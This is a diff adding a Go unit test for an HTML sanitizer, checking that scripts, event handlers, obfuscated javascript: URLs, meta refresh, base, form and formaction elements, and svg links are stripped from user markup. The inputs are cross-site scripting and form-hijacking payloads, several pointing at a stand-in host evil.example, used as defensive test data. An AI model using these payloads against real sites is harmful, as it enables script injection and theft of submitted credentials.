@@ -0,0 +1,101 @@
+package hy
+
+import (
+	"testing"
+
+	"github.com/bokwoon95/pagemanager/testutil"
+)
+
+func Test_Sanitize(t *testing.T) {
+	type TT struct {
+		src  string
+		want string
+	}
+	assert := func(t *testing.T, tts ...TT) {
+		is := testutil.New(t, testutil.Parallel)
+		for _, tt := range tts {
+			is.Equal(tt.want, Sanitize(tt.src, nil))
+		}
+	}
+	t.Run("allowed markup is kept", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<p class="lead">Hello <a href="https://example.com/?a=1&amp;b=2" title=x>world</a><br/></p>`,
+			want: `<p class="lead">Hello <a href="https://example.com/?a&#61;1&amp;b&#61;2" title="x">world</a><br></p>`,
+		})
+	})
+	t.Run("script and style are removed with their content", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<p>a<script>alert(1)</script>b<style>p{}</style>c</p>`,
+			want: `<p>abc</p>`,
+		})
+	})
+	t.Run("disallowed tags are removed but their text is kept", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<foo>bar</foo><!-- comment -->`,
+			want: `bar`,
+		})
+	})
+	t.Run("event handlers and style attributes are removed", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<img src="/a.png" onerror="alert(1)" style="color:red"><svg onload="alert(1)"></svg>`,
+			want: `<img src="/a.png"><svg></svg>`,
+		})
+	})
+	t.Run("dangerous URLs are removed", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="java&#x09;script:alert(1)">c</a><a href="mailto:a@b.c">d</a>`,
+			want: `<a>a</a><a>b</a><a>c</a><a href="mailto:a@b.c">d</a>`,
+		}, TT{
+			src:  `<img srcset="/a.png 1x, javascript:alert(1) 2x">`,
+			want: `<img>`,
+		})
+	})
+	t.Run("elements that reach beyond their content are removed", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<base href="https://evil.example/">a`,
+			want: `a`,
+		}, TT{
+			src:  `<meta http-equiv="refresh" content="0;url=https://evil.example/">a`,
+			want: `a`,
+		}, TT{
+			src:  `<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" href="/a.js" as="script">a`,
+			want: `a`,
+		}, TT{
+			src:  `<form action="https://evil.example/"><input name="password"></form>`,
+			want: `<input name="password">`,
+		}, TT{
+			src:  `<object data="/a.swf"><param name="a" value="b"></object><embed src="/a.swf">`,
+			want: ``,
+		})
+	})
+	t.Run("form attributes are removed", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<button formaction="https://evil.example/" formmethod="post" form="pm-login">a</button>`,
+			want: `<button>a</button>`,
+		})
+	})
+	t.Run("svg and math only keep harmless attributes", func(t *testing.T) {
+		assert(t, TT{
+			src:  `<svg viewBox="0 0 1 1" class="icon" href="/a" xlink:href="/b" fill="url(/c)"></svg>`,
+			want: `<svg viewbox="0&#32;0&#32;1&#32;1" class="icon"></svg>`,
+		}, TT{
+			src:  `<math display="block" href="https://evil.example/"></math>`,
+			want: `<math display="block"></math>`,
+		})
+	})
+	t.Run("output is well-formed", func(t *testing.T) {
+		assert(t, TT{
+			src:  `</div><div><p><b>unclosed`,
+			want: `<div><p><b>unclosed</b></p></div>`,
+		}, TT{
+			src:  `<div><b>a</div>b`,
+			want: `<div><b>a</b></div>b`,
+		})
+	})
+	t.Run("text is escaped", func(t *testing.T) {
+		assert(t, TT{
+			src:  `a &lt; b &amp;&amp; "c" > d`,
+			want: `a &lt; b &amp;&amp; &#34;c&#34; &gt; d`,
+		})
+	})
+}